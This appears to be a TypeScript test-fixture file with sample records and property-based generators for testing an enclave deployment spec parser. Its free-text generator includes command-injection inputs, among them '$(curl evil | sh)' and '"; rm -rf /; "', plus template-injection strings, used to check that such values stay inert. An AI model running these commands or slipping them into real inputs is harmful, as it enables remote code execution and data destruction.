/** Records for tests of the specification. */
import fc from 'fast-check';
import {
  type AppliedSpec,
  type EnclaveSpec,
  parseSpec,
  type SpecContext,
  type SpecIssue,
} from '../../../../src/enclave/spec/spec.ts';

export const context: SpecContext = { regions: [], defaultRegion: 'us-west-2', environment: 'dev' };

/** A record that raises neither errors nor warnings, with `config` in its `providerConfig`. */
export function record(config: object = {}, fields: object = {}): Record<string, unknown> {
  return {
    id: 'enc_1755986905612_ouocac870',
    walletAddress: '0x52908400098527886E0F7030069857D2E4169EE7',
    providerId: 'aws-nitro',
    status: 'PENDING_DEPLOY',
    region: 'us-west-2',
    providerConfig: {
      dockerImage: `ghcr.io/acme/signer@sha256:${'ab'.repeat(32)}`,
      workloadType: 'daemon',
      ...config,
    },
    ...fields,
  };
}

/** Exactly what the application's form stores when nothing is changed in it: every number is text. */
export const appRecord = {
  id: 'enc_1755986905612_ouocac870',
  name: 'my enclave',
  description: 'made by the form',
  region: 'us-west-2',
  walletAddress: 'someone@example.com',
  providerId: 'aws-nitro',
  status: 'PENDING_DEPLOY',
  createdAt: '2025-08-23T22:08:25.612Z',
  updatedAt: '2025-08-23T22:08:25.612Z',
  providerConfig: {
    dockerImage: 'hello-world',
    cpuCount: '2',
    memoryMiB: '1024',
    instanceType: 'm6i.xlarge',
    enableDebug: false,
    environmentVariables: '',
  },
};

export interface Findings {
  readonly spec: EnclaveSpec | undefined;
  readonly errors: readonly SpecIssue[];
  readonly warnings: readonly SpecIssue[];
}

export function findings(raw: unknown, changed: Partial<SpecContext> = {}, applied?: AppliedSpec): Findings {
  const result = parseSpec(raw, { ...context, ...changed }, { applied });
  return result.ok
    ? { spec: result.spec, errors: [], warnings: result.warnings }
    : { spec: undefined, errors: result.errors, warnings: result.warnings };
}

/** The spec of a record that must be valid. */
export function specOf(raw: unknown, changed: Partial<SpecContext> = {}): EnclaveSpec {
  const { spec, errors } = findings(raw, changed);
  if (spec === undefined) throw new Error(errors.map((issue) => `${issue.field}: ${issue.message}`).join('; '));
  return spec;
}

export const codes = (issues: readonly SpecIssue[]) => issues.map((issue) => issue.code);

const port = fc.integer({ min: 1_024, max: 7_999 });
const image = fc.constantFrom(
  'hello-world',
  'nginx:1.27',
  'ghcr.io/acme/app:latest',
  `localhost:5000/a@sha256:${'1'.repeat(64)}`,
);
/** Text of all kinds, but no NUL. */
export const freeText = fc
  .oneof(
    fc.string({ unit: 'binary' }),
    fc.constantFrom(
      '${aws_instance.x.id}',
      '%{ for x in y }',
      '$(curl evil | sh)',
      '`id`',
      '"; rm -rf /; "',
      "a'b\nc\r\n",
      '{{x}}',
      '\\',
    ),
  )
  .map((text) => text.replaceAll('\0', ''));
const variables = fc.dictionary(fc.stringMatching(/^[A-Z_][A-Z0-9_]{0,20}$/), freeText, { maxKeys: 5 });

/** `providerConfig`s that are valid, in canonical spelling. */
export const validConfig = fc.record(
  {
    dockerImage: image,
    // Sizes that fit every type below.
    instanceType: fc.constantFrom('m6i.xlarge', 'c6g.xlarge', 'm7a.xlarge', 'm6i.2xlarge'),
    cpuCount: fc.constant(2),
    memoryMiB: fc.integer({ min: 64, max: 6_000 }),
    enclaveCid: fc.integer({ min: 4, max: 1_000 }),
    enableDebug: fc.boolean(),
    workloadType: fc.constantFrom('batch', 'service', 'daemon'),
    healthCheckPath: fc.constantFrom('/', '/health', '/a?b=$(c)'),
    healthCheckInterval: fc.integer({ min: 5, max: 300 }),
    exposePorts: fc.uniqueArray(port, { maxLength: 8 }),
    awsServices: fc.array(fc.constantFrom('kms', 's3', 'sts', 'logs'), { maxLength: 6 }),
    environmentVariables: variables,
    ingressCidrs: fc.array(fc.constantFrom('10.0.0.0/16', '192.168.7.9/24', 'FD00::/8'), { maxLength: 3 }),
    logs: fc.record({ retentionDays: fc.constantFrom(1, 30, 365) }, { requiredKeys: [] }),
    host: fc.record({ publicIp: fc.boolean(), rootVolumeGiB: fc.integer({ min: 8, max: 100 }) }, { requiredKeys: [] }),
    attestation: fc.record(
      {
        expectedMeasurements: fc.array(fc.record({ pcr0: fc.constantFrom('ab'.repeat(48), 'CD'.repeat(48)) }), {
          maxLength: 4,
        }),
      },
      { requiredKeys: [] },
    ),
  },
  { requiredKeys: [] },
);

export const validTags = fc.dictionary(
  fc.stringMatching(/^[a-z$%{}"' ]{1,20}$/),
  freeText.map((text) => text.slice(0, 200)),
  { maxKeys: 5 },
);
